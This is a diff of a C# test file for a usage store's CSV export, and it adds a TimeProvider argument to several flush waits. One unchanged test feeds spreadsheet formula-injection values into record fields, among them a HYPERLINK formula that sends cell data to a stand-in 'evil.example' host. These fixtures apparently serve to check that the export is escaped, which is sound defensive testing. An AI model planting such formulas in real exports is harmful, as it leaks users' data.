@@ -25,7 +25,7 @@ public sealed class UsageQueryAndCsvTests : IAsyncLifetime
         _store.Record(TestRecords.Make("r3", keyId: "team-a", modelAlias: "smart", at: T0.AddMinutes(3)));
         _store.Record(TestRecords.Make("r-tie-1", keyId: "team-c", modelAlias: "fast", at: T0.AddMinutes(5)));
         _store.Record(TestRecords.Make("r-tie-2", keyId: "team-c", modelAlias: "fast", at: T0.AddMinutes(5)));
-        await _store.FlushAsync(CancellationToken.None).WaitAsync(Bound);
+        await _store.FlushAsync(CancellationToken.None).WaitAsync(Bound, TimeProvider.System);
     }
 
     public async Task DisposeAsync()
@@ -108,7 +108,7 @@ public sealed class UsageQueryAndCsvTests : IAsyncLifetime
             Source = UsageSource.Reported,
         });
         store.Record(TestRecords.Make("req-0", costNano: 2_500_000_000, at: T0.AddDays(-1)) with { ErrorCode = "upstream_error", Status = 502, Source = UsageSource.Counted, TaskScope = "run-7", Degraded = "max_tokens=64" });
-        await store.FlushAsync(CancellationToken.None).WaitAsync(Bound);
+        await store.FlushAsync(CancellationToken.None).WaitAsync(Bound, TimeProvider.System);
         using var text = new StringWriter();
 
         // Newest first: req-0 (March) before req-1 (January).
@@ -145,7 +145,7 @@ public sealed class UsageQueryAndCsvTests : IAsyncLifetime
         await using var store = new SqliteUsageStore(SqliteDatabase.Open(path), new SqliteStoreOptions { Path = path }, new FakeTimeProvider(T0));
         store.Record(TestRecords.Make("f-1", modelAlias: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")") with { TaskScope = "+1+1", Degraded = "@SUM(A1)" });
         store.Record(TestRecords.Make("f-2", keyId: "-2+3", modelAlias: "\tcmd", at: T0.AddMinutes(1)) with { ErrorCode = "\r=1" });
-        await store.FlushAsync(CancellationToken.None).WaitAsync(Bound);
+        await store.FlushAsync(CancellationToken.None).WaitAsync(Bound, TimeProvider.System);
         using var text = new StringWriter();
 
         await store.WriteCsvAsync(new UsageQuery(), text, CancellationToken.None);
@@ -178,7 +178,7 @@ public sealed class UsageQueryAndCsvTests : IAsyncLifetime
             store.Record(TestRecords.Make("h-" + i.ToString(System.Globalization.CultureInfo.InvariantCulture), modelAlias: names[^1], at: T0.AddSeconds(-i)));
         }
 
-        await store.FlushAsync(CancellationToken.None).WaitAsync(Bound);
+        await store.FlushAsync(CancellationToken.None).WaitAsync(Bound, TimeProvider.System);
         using var text = new StringWriter();
         await store.WriteCsvAsync(new UsageQuery(), text, CancellationToken.None);
 
